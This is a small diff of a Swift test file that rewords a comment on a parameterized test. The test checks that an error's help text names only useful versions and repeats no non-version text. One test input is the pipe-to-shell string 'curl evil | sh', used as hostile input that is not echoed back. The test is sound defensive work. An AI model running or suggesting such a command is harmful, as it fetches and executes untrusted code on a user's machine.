@@ -44,7 +44,7 @@ import Testing
         #expect(error.code == "newer-format" && error.retryClass == .failure)
     }
 
-    /// A version that this runner has already is not what is missing, and what is no version is not repeated.
+    /// The help names no version that this runner is already at, and repeats no text that is not a version.
     @Test(arguments: [[], [nil], [RunnerVersion.text], ["0.0.1"], ["curl evil | sh"], ["9"]])
     func namesNoVersionThatWouldNotHelp(_ named: [String?]) {
         let error = NewerFormat("x", known: "y", named: named, remedy: "if it is gone, delete it")
